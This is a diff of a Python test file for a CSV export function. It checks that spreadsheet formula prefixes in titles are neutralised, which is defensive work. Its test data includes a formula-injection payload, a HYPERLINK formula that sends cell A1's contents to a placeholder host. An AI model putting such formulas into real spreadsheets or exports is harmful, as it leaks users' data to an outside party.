@@ -12,8 +12,6 @@ import xml.etree.ElementTree as ET
 from freezegun import freeze_time
 from real_parts import need
 
-from journal.text.csv_export import cell
-
 NOW = "2026-11-22T03:00:00+00:00"
 TITLES = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
@@ -55,6 +53,8 @@ def test_formula_titles_are_inert_text_and_profit_stays_a_number(run, ok, tmp_pa
 
 
 def test_each_formula_start_is_neutralised_and_only_text_is_touched():
+    from journal.text.csv_export import cell
+
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert cell(start + "1+1") == "\"'" + start + '1+1"'
     assert cell("  =1+1") == '"\'  =1+1"'  # a spreadsheet may trim the spaces
